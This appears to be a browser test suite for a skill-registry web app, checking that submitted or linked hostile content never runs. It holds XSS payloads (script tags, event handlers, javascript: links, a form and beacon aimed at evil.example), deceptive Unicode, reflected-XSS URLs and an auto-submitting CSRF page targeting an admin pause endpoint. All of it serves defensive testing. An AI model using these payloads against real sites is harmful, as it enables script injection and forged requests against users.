"""Skills and pages that attack the visitor: none of their code runs."""

import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.registry import Registry, own_words, wait_for_state

_HOSTILE = """
# <img src=x onerror="window.pwned=1"> Title

<script>window.pwned=1</script>
<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<form action="https://evil.example"><input name=password></form>
<style>body{display:none}</style>

[a link](javascript:window.pwned=1) [data](data:text/html;base64,PHNjcmlwdD4=)
![picture](https://evil.example/beacon.png "onerror=window.pwned=1")
[ref]: javascript:window.pwned=1 "x"
[click][ref] <https://evil.example/"onmouseover="window.pwned=1>
&lt;script&gt;window.pwned=1&lt;/script&gt;

{{ 7 * 7 }} ${7*7} <%= 7 * 7 %>
"""


_ACTIVE = "main script, main iframe, main form[action^=http], main svg[onload]"


#: Holds the skill for review: its findings then quote the text.
_DECEIVES = "\u202eevil\u202c \u200bhidden\u200b\n"


def _submit_hostile(page: Page, registry: Registry, name: str, text: str) -> str:
    folder = registry.platform.folder / f"hostile-{name}"
    skill = folder / name
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text(own_words(name) + text)
    (skill / "page.html").write_text("<script>window.pwned=1</script>")
    registry.submit(page, registry.git.serve_repo(folder, f"mallory/{name}"))
    return page.url.rpartition("/")[2]


def _check_pages(page: Page, paths: list[str]) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    for path in paths:
        answer = page.goto(path)
        assert answer, path
        assert answer.ok, path
        assert page.evaluate("window.pwned") is None, path
        assert page.locator(_ACTIVE).count() == 0, path
        assert page.locator("main a[href^='javascript'], main a[href^='data']").count() == 0
        expect(page.locator("body")).to_be_visible()
    assert not [url for url in asked if "evil.example" in url]


@pytest.mark.slow
def test_nothing_of_a_published_hostile_skill_runs_on_any_page(
    cyd: Page, registry: Registry
) -> None:
    submission_id = _submit_hostile(cyd, registry, "odd-markup", _HOSTILE)
    wait_for_state(cyd, "Published")
    slug = registry.get_json(f"/api/v1/submissions/{submission_id}")["publishedSkillName"]

    assert slug
    _check_pages(cyd, [f"/submissions/{submission_id}", "/queue", "/", "/trust"])
    _check_pages(cyd, [
        f"/skills/{slug}{part}"
        for part in ("", "/files", "/files/SKILL.md", "/files/page.html", "/versions", "/security")
    ])  # fmt: skip


@pytest.mark.slow
def test_nothing_of_a_hostile_skill_in_review_runs_on_any_page(
    cyd: Page, registry: Registry
) -> None:
    submission_id = _submit_hostile(cyd, registry, "odd-letters", _HOSTILE + _DECEIVES)
    expect(cyd.locator("#progress header .badge")).to_have_class(
        re.compile(r"\bwarn\b"), timeout=40_000
    )

    _check_pages(cyd, [
        f"/submissions/{submission_id}", "/queue", "/trust", "/admin/reviews",
        f"/admin/reviews/{submission_id}",
    ])  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("part", ["raw/picture.svg", "raw/page.html"])
def test_raw_files_are_downloads_not_pages(ben: Page, registry: Registry, part: str) -> None:
    slug = registry.publish(
        ben,
        f"raw-{part[4:7]}",
        picture_dot_svg='<svg xmlns="http://www.w3.org/2000/svg"/>',
        page_dot_html="<p>A page</p>",
    )

    answer = ben.request.get(f"/skills/{slug}/{part}")

    assert answer.status == 200
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]


@pytest.mark.slow
def test_hostile_names_are_shown_as_text(ben: Page, registry: Registry) -> None:
    name = "<img src=x onerror=pwned=1>"
    ben.goto(f"/?q={name}")
    assert ben.evaluate("window.pwned") is None
    expect(ben.locator("#q, [name=q]").last).to_have_value(name)
    ben.goto("/submit?source=%22%3E%3Cscript%3Epwned=1%3C/script%3E")
    assert ben.evaluate("window.pwned") is None
    ben.goto("/skills/%3Cscript%3E/%3Cscript%3E/x")
    assert ben.evaluate("window.pwned") is None


@pytest.fixture
def evil_page(tmp_path: Path, registry: Registry) -> Iterator[str]:
    """A page of another site that sends a form to the registry as soon as it is opened."""
    page = f"""<form method=post action="{registry.url}/admin/queue/pause">
      <input name=duration value=24h><input name=reason value=pwned></form>
      <script>document.forms[0].submit()</script>"""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield f"http://localhost:{server.server_port}/"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.slow
def test_a_form_of_another_site_changes_nothing(
    cyd: Page, registry: Registry, evil_page: str
) -> None:
    cyd.goto(evil_page)
    cyd.wait_for_url(f"{registry.url}/**")

    expect(cyd.locator("body")).not_to_contain_text("Paused; resumes")
    assert registry.get_json("/api/v1/queue/stats")["pausedUntil"] is None
